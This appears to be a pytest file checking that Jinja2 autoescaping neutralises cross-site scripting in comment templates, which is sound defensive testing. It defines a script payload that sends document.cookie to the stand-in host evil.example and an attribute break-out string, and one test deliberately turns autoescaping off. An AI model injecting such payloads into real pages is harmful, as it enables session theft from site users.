"""A <script> in a comment or a quote in a name comes out as text; with autoescaping off, the
same template emits a working script tag."""

from __future__ import annotations

from jinja2 import DictLoader, Environment
from secure_templates import TEMPLATES, emphasise, render_comment

SCRIPT = "<script>fetch('https://evil.example/?c=' + document.cookie)</script>"
BREAK_OUT = '" onmouseover="alert(1)'


def test_script_in_text_is_escaped() -> None:
    html = render_comment("ada", SCRIPT)
    assert "<script>" not in html
    assert "&lt;script&gt;fetch(&#39;https://evil.example/?c=&#39;" in html


def test_a_quote_cannot_leave_the_attribute() -> None:
    html = render_comment(BREAK_OUT, "hi")
    assert 'href="/u/&#34; onmouseover=&#34;alert(1)"' in html


def test_markup_format_escapes_its_arguments() -> None:
    assert emphasise(SCRIPT).startswith("<em>&lt;script&gt;")
    assert emphasise("fish & chips") == "<em>fish &amp; chips</em>"


def test_without_autoescape_the_script_survives() -> None:
    unsafe = Environment(loader=DictLoader(TEMPLATES))  # noqa: S701 (deliberately unsafe)
    html = unsafe.get_template("comment.html").render(author="ada", text=SCRIPT)
    assert SCRIPT in html
